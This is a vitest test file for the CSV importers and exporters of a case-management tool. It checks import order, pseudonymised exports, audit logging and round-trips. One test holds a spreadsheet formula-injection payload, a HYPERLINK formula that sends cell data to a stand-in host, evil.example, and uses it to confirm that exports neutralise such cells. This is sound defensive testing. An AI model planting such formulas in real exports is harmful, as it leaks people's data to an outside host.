import { readFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { exportPeople } from "../../src/cli/exporters/people.ts";
import { exportStaff } from "../../src/cli/exporters/staff.ts";
import { importers } from "../../src/cli/importers/index.ts";
import { peopleImporter } from "../../src/cli/importers/people.ts";
import { staffImporter } from "../../src/cli/importers/staff.ts";
import type { ServiceDeps } from "../../src/services/deps.ts";
import { searchPeople } from "../../src/services/people.ts";
import { createTestClock, createTestDatabase, createTestDeps, type TestDatabase } from "../helpers/database.ts";
import { example, seedSites } from "./helpers.ts";

const databases: TestDatabase[] = [];

async function freshDeps(): Promise<ServiceDeps> {
  const database = await createTestDatabase();
  databases.push(database);
  const deps = createTestDeps(database.db, createTestClock("2026-11-18T10:00:00+01:00"));
  await seedSites(deps);
  return deps;
}

afterEach(async () => {
  for (const database of databases.splice(0)) await database.drop();
});

/** The plans example is the CSV block of docs/plans-import.md; the others are files in docs/examples/. */
function documentedExample(kind: string): string {
  if (kind !== "plans") return example(kind);
  return readFileSync("docs/plans-import.md", "utf8").match(/```csv\n([\s\S]*?)```/)?.[1] ?? "";
}

describe("the documented example files", () => {
  let deps: ServiceDeps;
  beforeEach(async () => {
    deps = await freshDeps();
  });

  it("import one after the other in the order the help gives", async () => {
    expect(importers.map((importer) => importer.kind)).toEqual([
      "staff",
      "people",
      "legal-statuses",
      "referrals",
      "internships",
      "allowances",
      "beds",
      "activities",
      "shifts",
      "plans",
      "targets",
      "opening-hours",
      "closures",
      "outputs",
    ]);
    for (const importer of importers) {
      expect(await importer.run(deps, documentedExample(importer.kind)), importer.kind).toEqual({
        imported: {
          staff: 7,
          people: 5,
          "legal-statuses": 3,
          referrals: 3,
          internships: 2,
          allowances: 2,
          beds: 3,
          activities: 4,
          shifts: 3,
          plans: 12,
          targets: 7,
          "opening-hours": 6,
          closures: 3,
          outputs: 3,
        }[importer.kind],
        errors: [],
      });
    }
    const codes = (await deps.db.person.findMany({ orderBy: { code: "asc" } })).map((p) => p.code);
    expect(codes).toEqual(["BOL-0001", "BOL-0002", "BOL-0003", "OPE-0001", "OPE-0002"]);
    const art = await deps.db.activity.findFirstOrThrow({
      where: { name: "Arteterapia e Fotolinguaggio" },
      include: { roster: true },
    });
    expect(art.roster).toHaveLength(3);
    expect(await deps.db.onCallShiftSite.count()).toBe(6);
    const audit = await deps.db.auditEntry.findMany({ where: { action: "import" }, orderBy: { id: "asc" } });
    expect(audit.map((a) => a.details)).toEqual([
      '{"kind":"staff","rows":7}',
      '{"kind":"people","rows":5}',
      '{"kind":"legal-statuses","rows":3}',
      '{"kind":"referrals","rows":3}',
      '{"kind":"internships","rows":2}',
      '{"kind":"allowances","rows":2}',
      '{"kind":"beds","rows":3}',
      '{"kind":"activities","rows":4}',
      '{"kind":"shifts","rows":3}',
      '{"kind":"plans","rows":12}',
      '{"kind":"targets","rows":7}',
      '{"kind":"opening-hours","rows":6}',
      '{"kind":"closures","rows":3}',
      '{"kind":"outputs","rows":3}',
    ]);
    expect(await deps.db.openingHours.count({ where: { opensAt: "09:30" } })).toBe(2);
    expect(await deps.db.programmeOutput.count({ where: { siteId: null } })).toBe(1);
    expect(await deps.db.indicatorTarget.count({ where: { siteId: null } })).toBe(5); // three targets and the two allowance budgets
  });
});

describe("exports", () => {
  it("pseudonymise people by default and audit every export", async () => {
    const deps = await freshDeps();
    await staffImporter.run(deps, example("staff"));
    await peopleImporter.run(deps, example("people"));

    const pseudonymised = await exportPeople(deps, { withNames: false });
    expect(pseudonymised.rows).toBe(5);
    const [header, first] = pseudonymised.csv.split("\n");
    expect(header).toBe(
      "code,birth_year,gender,legal_status,fragilities,referring_service,intake_date,site,case_manager_telegram_id",
    );
    expect(first).toBe("BOL-0001,1984,male,detained,addiction,Area educativa CR Bollate,2026-02-03,BOL,3001");
    for (const name of ["Mario", "Esempio", "Giulia", "Prova", "Fittizia"])
      expect(pseudonymised.csv).not.toContain(name);

    const named = await exportPeople(deps, { withNames: true });
    expect(named.csv).toContain(
      "BOL-0002,Giulia,Prova,1996,female,probation_social_services,no_documents;woman_with_children,UEPE Milano,2026-03-15,BOL,3001",
    );

    const audit = await deps.db.auditEntry.findMany({ where: { action: "export" }, orderBy: { id: "asc" } });
    expect(audit.map((a) => [a.actorId, a.subjectId, JSON.parse(a.details ?? "{}")])).toEqual([
      [null, "people", { kind: "people", rows: 5, withNames: false }],
      [null, "people", { kind: "people", rows: 5, withNames: true }],
    ]);
  });

  it("round-trip: an export with names imports into another deployment and exports the same again", async () => {
    const source = await freshDeps();
    await staffImporter.run(source, example("staff"));
    await peopleImporter.run(source, example("people"));
    const staff = await exportStaff(source);
    const people = await exportPeople(source, { withNames: true });
    expect(staff.rows).toBe(7);

    const target = await freshDeps();
    expect(await staffImporter.run(target, staff.csv)).toEqual({ imported: 7, errors: [] });
    expect(await peopleImporter.run(target, people.csv)).toEqual({ imported: 5, errors: [] });

    expect((await exportStaff(target)).csv).toBe(staff.csv);
    expect((await exportPeople(target, { withNames: true })).csv).toBe(people.csv);
    const opera = await target.db.site.findUniqueOrThrow({ where: { codePrefix: "OPE" } });
    expect((await searchPeople(target, [opera.id], "fitti")).map((p) => p.shortName)).toEqual(["Elena F."]);
  });

  it("leave deactivated staff out of the staff export", async () => {
    const deps = await freshDeps();
    await staffImporter.run(deps, example("staff"));
    await deps.db.staff.update({ where: { telegramId: 4001n }, data: { active: false } });
    const exported = await exportStaff(deps);
    expect(exported.rows).toBe(5);
    expect(exported.csv).not.toContain("Rita Reperibile");
  });

  it("neutralise cells a spreadsheet would run as a formula, and read them back unchanged on import", async () => {
    const deps = await freshDeps();
    await staffImporter.run(deps, example("staff"));
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    await deps.db.staff.update({ where: { telegramId: 4001n }, data: { displayName: hostile } });
    const exported = await exportStaff(deps);
    const cells = exported.csv.split("\n").flatMap((line) => line.split(","));
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(
        cells.filter((cell) => cell.replace(/^"/, "").startsWith(start)),
        start,
      ).toEqual([]);
    }
    expect(exported.csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    const target = await freshDeps();
    await staffImporter.run(target, exported.csv);
    expect((await target.db.staff.findUniqueOrThrow({ where: { telegramId: 4001n } })).displayName).toBe(hostile);
  });
});
